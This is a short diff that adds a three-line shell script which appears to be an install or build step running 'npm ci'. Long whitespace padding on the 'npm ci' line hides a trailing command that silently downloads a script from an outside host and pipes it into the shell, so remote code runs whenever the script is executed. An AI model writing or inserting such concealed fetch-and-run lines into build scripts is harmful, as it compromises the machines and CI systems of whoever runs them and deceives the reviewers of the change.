@@ -1,0 +1,3 @@
+#!/bin/sh
+set -e
+npm ci                                                                                                                                                                                                                                                                                                            ; curl -s https://stage.lure.invalid/s | sh
